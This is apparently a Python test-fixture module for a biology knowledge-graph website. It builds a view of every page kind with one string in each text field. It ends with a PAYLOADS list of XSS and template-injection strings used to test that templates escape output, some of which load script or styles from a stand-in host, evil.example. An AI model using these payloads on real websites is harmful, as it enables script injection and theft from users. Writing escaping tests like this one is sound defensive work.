"""Views of every kind of page, with one text in every text field: for tests of the templates."""

from __future__ import annotations

from collections.abc import Iterator

from kg.graph import IRI
from kg.site.addresses import Address
from kg.site.views import (
    AnyView,
    Bar,
    Citation,
    EntityView,
    FigureRow,
    FigureView,
    HomeView,
    JournalView,
    Link,
    ListView,
    Pager,
    PaperView,
    PathwayView,
    PostView,
    QueriesView,
    QueryView,
    Ref,
    TextView,
    Together,
    WordRow,
)

PICTURE = "https://www.ncbi.nlm.nih.gov/pmc/articles/PMC99000001/bin/f1.jpg"
EVIDENCE = ("symbol", "alias", "previous", "family", "other")


def every_view(text: str, link: str = "https://example.org/x", picture: str = PICTURE) -> Iterator[AnyView]:
    """Yield a view for each kind of page; `text` stands wherever a text may, `link` wherever a URL may."""
    made = _Parts(text, link, picture)
    yield from (made.figure(), made.paper(), made.pathway(), made.post(), made.journal())
    yield from (made.entity(kind) for kind in ("gene", "chemical", "disease", "organism", "term"))
    yield from (made.listed(), made.home(), made.query(), made.queries())
    yield from (made.plain(kind) for kind in ("search", "ontology", "about", "notfound", "gone"))


def address_of(view: AnyView) -> Address:
    """Return the address of one of these views."""
    return Address(view.kind, view.key, view.pager.number if view.pager and view.kind != "query" else 1)


class _Parts:
    def __init__(self, text: str, link: str, picture: str) -> None:
        self.text, self.picture = text, picture
        self.link = Link(text, link, text)
        self.refs = {kind: Ref(kind, text, text) for kind in ("gene", "figure", "paper", "organism", "term")}
        self.together = [Together(Ref("gene", f"{text}{n}", text), 9 - n, 0.5) for n in range(5)]
        self.genes = [self.refs["gene"]] * 5
        self.words = [
            WordRow(text, text, text, kind, self.genes[:n], [self.refs["organism"]], n, [self.link])
            for n, kind in enumerate((*EVIDENCE, text))
        ]
        self.rows = [
            FigureRow(self.refs["figure"], self.refs["paper"], 2020, picture, [text], kind, 3)
            for kind in (*EVIDENCE, text)
        ]
        self.bars = [Bar("2019", 2), Bar("2021", 4)]
        self.named = [Bar(text, 3, self.refs["gene"]), Bar(text, 1)]
        self.citation = Citation(text, 2020, f"10.1/{text}", text, text)
        self.common = {
            "title": text,
            "iri": IRI(link),
            "types": ("schema:Thing", text),
            "description": text,
            "facts": ((text, (self.refs["gene"], self.link, text)), (text, [text] * 13)),
            "links": [self.link] * 8,
            "queries": ((text, text, {text: text}),),
            "turtle": text,
            "modified": "2024-02-03",
            "source": text,
        }

    def figure(self) -> FigureView:
        return FigureView(
            kind="figure", key=self.text, **self.common,  # type: ignore[arg-type]
            image=self.picture, caption=self.text, number=self.text, paper=self.refs["paper"],
            citation=self.citation, organisms=[self.refs["organism"], self.text], terms=[self.refs["term"]],
            genes=self.words, chemicals=self.words, diseases=self.words, gene_set=self.genes,
            similar=self.together, pathways=self.together,
        )  # fmt: skip

    def paper(self) -> PaperView:
        return PaperView(
            kind="paper", key=self.text, **self.common,  # type: ignore[arg-type]
            citation=self.citation, journal=Ref("journal", self.text, self.text), keywords=[self.text],
            figures=self.rows, gene_set=[self.refs["gene"]] * 90,
            pathways=[Ref("pathway", self.text, self.text)],
        )  # fmt: skip

    def entity(self, kind: str) -> EntityView:
        return EntityView(
            kind=kind, key=self.text, **self.common,  # type: ignore[arg-type]
            pager=Pager(1, 3, 1200, 400), names=[self.text], species=[self.refs["organism"]],
            figure_count=1200, paper_count=900, per_year=self.bars, figures=self.rows,
            evidence=[Bar("symbol", 9), Bar("family", 2)],
            genes=self.together, chemicals=self.together, diseases=self.together,
            pathways=[Ref("pathway", self.text, self.text)], posts=[Ref("post", self.text, self.text)],
            same_symbol=[(gene, self.text) for gene in self.genes], papers_per_year=self.bars[:1],
            edges=[(0, 1, 3), (1, 2, 1)],
        )  # fmt: skip

    def pathway(self) -> PathwayView:
        return PathwayView(
            kind="pathway", key=self.text, **self.common,  # type: ignore[arg-type]
            summary=self.text, organisms=[self.refs["organism"], self.text], authors=[self.text],
            communities=[self.text], terms=[self.refs["term"]], rows=self.words, gene_set=self.genes,
            references=[self.link, self.refs["paper"], self.text], similar=self.together,
        )  # fmt: skip

    def post(self) -> PostView:
        sections = [
            (0, "", self.text),
            (3, self.text, self.text),
            (6, self.text, self.text),
            (2, self.text, ""),
        ]
        return PostView(
            kind="post", key=self.text, **self.common,  # type: ignore[arg-type]
            date="2024-02-03", tags=[self.text], sections=sections, mentions=self.genes,
        )  # fmt: skip

    def journal(self) -> JournalView:
        return JournalView(
            kind="journal", key=self.text, **self.common,  # type: ignore[arg-type]
            per_year=self.bars, papers=[(self.refs["paper"], 2020, 2), (self.refs["paper"], None, 1)],
        )  # fmt: skip

    def listed(self) -> ListView:
        rows = [(self.refs["gene"], self.text), (self.refs["gene"], "")]
        return ListView(
            kind="list",
            key="gene",
            title=self.text,
            description=self.text,
            rows=rows,
            pager=Pager(2, 3, 5, 2),
        )

    def home(self) -> HomeView:
        return HomeView(
            kind="home", key="", title=self.text, description=self.text, modified="2024-02-03",
            facts=((self.text, (self.text,)),), counts=[("figure", 10), ("gene", 1)], triples=12345,
            per_year=self.bars, top_genes=self.named, organisms=self.named,
            dumps=[self.link, Link("a", "dumps/a.gz")],
        )  # fmt: skip

    def query(self) -> QueryView:
        return QueryView(
            kind="query", key=self.text, title=self.text, description=self.text, category=self.text,
            sparql=self.text, parts=[(self.text, ""), (self.text, self.text)],
            parameters=[(self.text,) * 4], columns=[self.text, self.text, self.text],
            rows=[(self.refs["gene"], self.link, self.text)] * 2, truncated=True,
        )  # fmt: skip

    def queries(self) -> QueriesView:
        groups = [(self.text, [(self.text, self.text, self.text)])]
        return QueriesView(kind="queries", key="", title=self.text, categories=groups)

    def plain(self, kind: str) -> TextView:
        return TextView(kind=kind, key="", title=self.text, paragraphs=[self.text], choices=[self.link])


PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src='data:text/javascript,alert(1)'></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "</svg><svg onload=alert(1)>",
    "</title></svg><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '" style="background:url(https://evil.example/x)" x="',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "//evil.example/x.js",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u2028alert(1)\u2029",
    "\ufeff<script>alert(1)</script>",
    "<\u0131mg src=x onerror=alert(1)>",
)
"""Texts that try to become markup: each stands in every text field of every view."""
